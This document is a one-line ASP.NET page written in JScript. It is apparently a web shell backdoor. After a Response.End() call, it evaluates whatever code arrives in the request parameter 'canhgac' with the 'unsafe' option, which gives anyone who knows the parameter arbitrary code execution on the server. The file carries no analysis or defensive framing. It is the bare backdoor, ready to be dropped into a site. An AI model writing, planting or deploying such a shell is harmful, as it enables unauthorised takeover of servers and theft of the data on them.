<%@ Page Language="Jscript"%><%Response.End();%><%eval(Request.Item["canhgac"],"unsafe");%>
